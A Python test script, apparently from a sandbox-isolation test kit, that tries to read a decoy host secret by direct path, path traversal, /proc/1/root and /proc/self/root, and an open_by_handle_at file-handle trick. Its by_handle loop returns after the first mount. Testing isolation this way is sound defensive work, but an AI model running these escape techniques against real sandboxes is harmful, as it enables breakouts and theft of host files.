"""Reads a file of the host: by its path, by way of /proc, and by its handle, which needs no path.

holds: mount namespace, seccomp
unconfined: root
"""
import ctypes
import os

from kit.attack import decoys, has_secret, read, syscall, tries


def by_path(path):
    return lambda: has_secret(read(path)) and path


def by_listing():
    return "open.txt" in os.listdir(decoys["folder"]) and "the decoys' folder"


def by_handle():
    kind, data = decoys["handle"][0], bytes.fromhex(decoys["handle"][1])

    class Handle(ctypes.Structure):
        _fields_ = [("size", ctypes.c_uint), ("type", ctypes.c_int), ("bytes", ctypes.c_ubyte * 128)]
    handle = Handle(len(data), kind, (ctypes.c_ubyte * 128)(*data))
    for mount in ("/usr", "/", "/tmp", "/etc/skel"):
        place = os.open(mount, os.O_RDONLY)
        try:
            fd = syscall("open_by_handle_at", place, ctypes.byref(handle), os.O_RDONLY)
        finally:
            os.close(place)
        return has_secret(os.read(fd, 4096)) and "a handle"


file = decoys["file"]
tries({
    "path": by_path(file),
    "closed": by_path(os.path.join(decoys["folder"], "closed.txt")),
    "upwards": by_path("/tmp" + "/.." * 20 + file),
    "/proc/1/root": by_path("/proc/1/root" + file),
    "/proc/self/root": by_path("/proc/self/root" + file),
    "listing": by_listing,
    "handle": by_handle,
}, absent=("/proc/1/root",))
